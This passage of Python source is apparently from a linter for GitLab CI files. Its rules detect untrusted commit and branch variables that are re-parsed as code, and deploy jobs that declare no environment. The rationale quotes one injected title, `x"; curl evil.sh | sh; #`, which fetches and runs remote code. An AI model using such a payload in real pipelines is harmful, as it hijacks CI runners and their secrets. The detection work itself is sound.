    """The source line of each offset of a script (a YAML string that starts on line `start` of the file),
    looked up the first time a finding needs one."""

    def __init__(self, script: str, source: Sequence[str], start: int, end: int) -> None:
        self.script, self.source, self.start, self.end = script, source, start, end
        self.lines: list[int] = []
        self.breaks: list[int] = []

    def at(self, offset: int) -> int:
        if not self.lines:
            self.lines = script_lines(self.script, self.source, self.start, self.end)
            self.breaks = [match.start() for match in re.finditer("\n", self.script)]
        return self.lines[bisect_left(self.breaks, offset)]


def _job_scopes(pipeline: YamlMap) -> Iterator[tuple[str, YamlMap, YamlMap | None]]:
    """(name, mapping, job whose variables apply or None) of `default:` and of every job, hidden ones too
    (a hidden job's scripts are written there once, however many jobs extend it)."""
    if isinstance(pipeline.get("default"), YamlMap):
        yield "default", pipeline["default"], None
    for name, job in pipeline.items():
        if isinstance(name, str) and name not in KEYWORDS and isinstance(job, YamlMap):
            yield name, job, job


@policy(
    id="ORG-GITLAB-005",
    title="Untrusted CI/CD variables are not parsed as code in job scripts",
    kinds=["gitlab-ci"],
    severity="high",
    rationale=(
        "Commit messages, branch and tag names and merge request titles are written by whoever pushes or "
        "opens a merge request; a script that hands them to `eval`, `sh -c`, `ssh` or another interpreter "
        "runs a title such as `x\"; curl evil.sh | sh; #` with the job's variables, tokens and runner."
    ),
    remediation="""
        Let the shell expand the variable as data, quoted, and never paste it into text that is parsed
        again; when another shell must read it, single-quote the command so that shell reads it itself:

            notify:
              script:
                - echo "Building $CI_COMMIT_TITLE"
                - sh -c 'git tag -a "release-$1" -m "$2"' sh "$CI_COMMIT_SHORT_SHA" "$CI_COMMIT_TITLE"
    """,
    tags=["ci-security", "injection"],
)
def no_script_injection(doc: Document, ctx: Context) -> Iterator[Violation]:
    """No job script parses as code a variable an outsider writes (`CI_COMMIT_MESSAGE`, `CI_COMMIT_TITLE`,
    `CI_COMMIT_DESCRIPTION`, `CI_COMMIT_AUTHOR`, `CI_COMMIT_TAG_MESSAGE`, branch and tag names
    `CI_COMMIT_BRANCH`/`CI_COMMIT_REF_NAME`/`CI_COMMIT_TAG`, `CI_MERGE_REQUEST_TITLE`,
    `CI_MERGE_REQUEST_DESCRIPTION`, `CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`,
    `CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME`), nor a variable set from one.

    GitLab passes variables to the job's shell as environment variables, so `echo "$CI_COMMIT_TITLE"` is
    data, quoted or not (unquoted, it is split into words, never run). It becomes code where a command
    parses its argument again: `eval`, `sh -c`/`bash -c`/`su -c` (unless the command string is single-quoted,
    so the inner shell reads the variable itself), `ssh` (the remote shell parses the command line),
    `python -c`, `node -e`, `ruby -e`, `perl -e`, `php -r`, PowerShell's `-Command` and `Invoke-Expression`,
    a pipe into a shell or interpreter, an expanding here-document into one or into `ssh`, and Windows
    Batch, which substitutes `%VAR%` before parsing the line. Variables set from untrusted ones count: in `variables:`
    (which GitLab expands, unless `expand: false`; global, inherited through `extends:`, the job's own and
    `rules:` ones) and by assignments earlier in the script (`MSG="$CI_COMMIT_MESSAGE"`). A component's
    `$[[ inputs.x | expand_vars ]]` in a script is reported too: it pastes the input's text, variables
    expanded, into the script before the shell reads it.

    Comments, single-quoted text and `$$` escapes are not expanded and not reported; `CI_COMMIT_REF_SLUG`
    and other slugs hold only `[a-z0-9-]`. Scripts are checked where they are written (hidden jobs
    included), with the variables the job defines or inherits in the same file; variables from other
    files are not known. Each finding points at the script line that holds the variable.
    """
    if not isinstance(doc.data, YamlMap):
        return
    source = doc.text.splitlines()
    variables = _Tainted(doc.data)
    known: dict[tuple[str, frozenset[tuple[str, str]]], tuple[list[_Reparsed], dict[str, str]]] = {}
    for name, scope, job in _job_scopes(doc.data):
        tainted = variables.of(job)
        for keys in (("before_script", "script"), ("after_script",)):  # after_script runs in a new shell
            shell = dict(tainted)
            for key in keys:
                for script, start, where in _script_items(scope, key):
                    lines = _ScriptLines(script, source, start, scope.end_line)
                    for match in _EXPAND_VARS.finditer(script):
                        yield Violation(f"input `{match.group(1)}` is pasted into the script with `expand_vars`, so "
                                        "the variables in its value (a branch name, a commit message) become "
                                        "code; drop `expand_vars` and read the variable in the script, quoted "
                                        "(\"$VAR\")", lines.at(match.start()), f"{name}.{where}")
                    reported = set()
                    for offset, variable, origin, sink, advice in _read(script, shell, known):
                        line = lines.at(offset)
                        if (line, variable) in reported:
                            continue
                        reported.add((line, variable))
                        yield Violation(_injection_message(variable, origin, sink, advice), line, f"{name}.{where}")


# What `reparsed` yields, with the untrusted variable the reparsed one held at that point of the script.
_Reparsed = tuple[int, str, str, str, str]


def _read(script: str, shell: dict[str, str], known: dict[tuple[str, frozenset[tuple[str, str]]],
                                                          tuple[list[_Reparsed], dict[str, str]]]) -> list[_Reparsed]:
    """`reparsed(script, shell)`, read once per script and tainted variables: a script written once and
    merged or aliased into a thousand jobs is read once, its assignments (`MSG="$CI_COMMIT_TITLE"`) applied
    to `shell` each time."""
    key = (script, frozenset(shell.items()))
    if key in known:
        shell.update(known[key][1])
        return known[key][0]
    before = dict(shell)
    found = [(offset, variable, shell[variable], sink, advice)
             for offset, variable, sink, advice in reparsed(script, shell)]  # the origin as it stands there
    known[key] = found, {variable: origin for variable, origin in shell.items() if before.get(variable) != origin}
    return found


def _injection_message(variable: str, origin: str, sink: str, advice: str) -> str:
    what = UNTRUSTED_VARIABLES[origin] if variable == origin else f"set from ${origin}, {UNTRUSTED_VARIABLES[origin]}"
    if advice == "percent":
        return (f"untrusted `%{variable}%` ({what}) is substituted by Windows Batch before the line is parsed, so it "
                f"runs as code; read it as $env:{variable} in PowerShell instead")
    return f"untrusted `${variable}` ({what}) is expanded into `{sink}`, which parses it as code; {ADVICE[advice]}"


@policy(
    id="ORG-GITLAB-006",
    title="Deploy jobs declare an environment",
    kinds=["gitlab-ci"],
    severity="high",
    rationale=(
        "GitLab enforces protected environments (who may deploy, deployment approvals) and records the "
        "deployment history only for jobs that declare an `environment:`; a deploy job without one "
        "deploys whatever reaches it, unrecorded and unapproved."
    ),
    remediation="""
        Declare the environment the job deploys to, and protect it (Settings > CI/CD > Protected
        environments) with the users allowed to deploy and the approvals required:

            deploy-staging:
              stage: deploy
              environment:
                name: staging
              script:
                - helm upgrade --install api ./chart --namespace staging
    """,
    tags=["change-control"],
)
def deploys_declare_environment(doc: Document, ctx: Context) -> Iterator[Violation]:
    """Every job whose script deploys (`kubectl apply`, `helm upgrade`, `terraform apply`, `helm install`,
    `aws ecs update-service`, `gcloud run deploy`, `az webapp deploy`, `dpl --provider`...) declares an
    `environment:`, directly or through `extends:` from a job in the same file.

    Production deploy jobs are ORG-GITLAB-003's (which also asks for manual or protected-branch runs) and
    are not reported again here. Jobs that first create a throwaway local cluster (`kind create cluster`,
    `minikube start`, `k3d cluster create`) are tests, not deployments. Deploys written only as
    project scripts (`make deploy`, `./release.sh`) are not recognised. The finding points at the job's
    name.
    """
    if not isinstance(doc.data, YamlMap):
        return
    for name, raw, line in jobs(doc.data):
        job = effective(doc.data, raw)
        commands = deploy_lines(job)
        if not commands or environment_name(job) is not None or production_deploy(name, job, commands):
            continue
        if EPHEMERAL_CLUSTER_COMMANDS.search(scripts(job)):
            continue
        match = DEPLOY_COMMANDS.search(commands[0])
        command = " ".join((match.group(0) if match else commands[0]).split())
        yield Violation(f"job {name} deploys (`{command}`) but declares no environment:, so no protected "
                        "environment rule or approval applies; add `environment: name: <target>`", line, name)
